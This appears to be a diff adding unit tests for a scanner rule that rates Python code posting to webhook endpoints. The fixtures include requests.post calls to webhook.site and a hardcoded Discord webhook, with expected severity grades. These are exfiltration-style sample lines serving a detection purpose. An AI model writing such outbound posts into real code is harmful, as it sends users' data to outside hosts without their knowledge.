@@ -29,6 +29,15 @@ TEST(CaptureRequest, KeywordUrl) {
   EXPECT_EQ(Rule("import requests\nrequests.post(url='https://webhook.site/abc', data='x')\n"),
             "critical@import");
 }
+TEST(CaptureRequest, ChatWebhookWrittenIntoTheCode) {
+  EXPECT_EQ(Rule("import requests\ndef notify():\n"
+                 "    requests.post('https://discord.com/api/webhooks/1/abc', json={'content': 'hi'})\n"),
+            "high@runtime");
+}
+TEST(CaptureRequest, WebhookFromConfigurationIsQuiet) {
+  EXPECT_EQ(Rule("import requests, os\ndef notify(url):\n    requests.post(url, json={'content': 'hi'})\n"),
+            "none");
+}
 TEST(CaptureRequest, OrdinaryHostIsQuiet) {
   EXPECT_EQ(Rule("import requests\nrequests.get('https://api.example.org/v1/ngrok')\n"), "none");
 }
